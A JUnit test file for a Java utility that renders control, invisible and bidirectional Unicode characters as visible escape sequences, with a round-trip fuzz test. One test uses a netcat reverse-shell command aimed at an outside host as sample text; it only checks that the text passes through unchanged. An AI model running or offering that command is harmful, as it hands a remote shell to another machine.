package correlate.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class VisibleTest {

    @Test
    void leavesOrdinaryTextAsItIs() {
        String text = "nc -e /bin/sh \"osquery.io\" 443";
        assertSame(text, Visible.escape(text));
        assertEquals("naïve 東京 😀", Visible.escape("naïve 東京 😀"));
    }

    @ParameterizedTest
    @CsvSource({
        "a, \\n", "9, \\t", "d, \\r", "0, \\x00", "1b, \\x1b", "7f, \\x7f", "85, \\u0085", "9b, \\u009b", "a0, \\u00a0",
        "ad, \\u00ad", "61c, \\u061c", "200b, \\u200b", "200d, \\u200d", "200e, \\u200e", "2028, \\u2028", "202e, \\u202e",
        "2060, \\u2060", "2066, \\u2066", "3000, \\u3000", "3164, \\u3164", "fe0f, \\ufe0f", "feff, \\ufeff",
        "d800, \\ud800", "dfff, \\udfff", "e0041, \\u{e0041}", "e0100, \\u{e0100}", "10ffff, \\u{10ffff}"})
    void showsWhatActsOrHides(String hex, String shown) {
        assertEquals("a" + shown + "b", Visible.escape("a" + Character.toString(Integer.parseInt(hex, 16)) + "b"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"C:\\Windows\\System32\\cmd.exe", "C:\\Users\\Public", "D:\\xampp\\bin", "a\\", "\\users"})
    void keepsWindowsPathsReadable(String path) {
        assertEquals(path, Visible.escape(path));
    }

    @Test
    void doublesABackslashThatWouldLookLikeAnEscape() {
        assertEquals("C:\\\\temp\\\\new\\\\x1b\\\\u202e\\\\u{41}", Visible.escape("C:\\temp\\new\\x1b\\u202e\\u{41}"));
        assertEquals("\\\\\\server\\share", Visible.escape("\\\\server\\share"));
        assertEquals("\\\\\\x1b", Visible.escape("\\\033"));
    }

    /** Different texts never look the same. */
    @Test
    void canBeReadBack() {
        Random random = new Random(7);
        String alphabet = "\\\\\\\\nrtxu{}1bB20e\n\t\r\033\u0085\u202e\ud800\udfff ";
        for (int i = 0; i < 20_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int length = random.nextInt(12); length > 0; length--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertEquals(text.toString(), unescape(Visible.escape(text.toString())));
        }
    }

    private static String unescape(String shown) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < shown.length(); ) {
            String rest = shown.substring(i);
            if (rest.startsWith("\\\\")) {
                text.append('\\');
                i += 2;
            } else if (rest.matches("(?s)\\\\[nrt].*")) {
                text.append(rest.charAt(1) == 'n' ? '\n' : rest.charAt(1) == 'r' ? '\r' : '\t');
                i += 2;
            } else if (rest.matches("(?s)\\\\x\\p{XDigit}{2}.*")) {
                text.append((char) Integer.parseInt(rest.substring(2, 4), 16));
                i += 4;
            } else if (rest.matches("(?s)\\\\u\\p{XDigit}{4}.*")) {
                text.append((char) Integer.parseInt(rest.substring(2, 6), 16));
                i += 6;
            } else if (rest.matches("(?s)\\\\u\\{\\p{XDigit}+}.*")) {
                int end = rest.indexOf('}');
                text.appendCodePoint(Integer.parseInt(rest.substring(3, end), 16));
                i += end + 1;
            } else {
                text.append(rest.charAt(0));
                i++;
            }
        }
        return text.toString();
    }
}
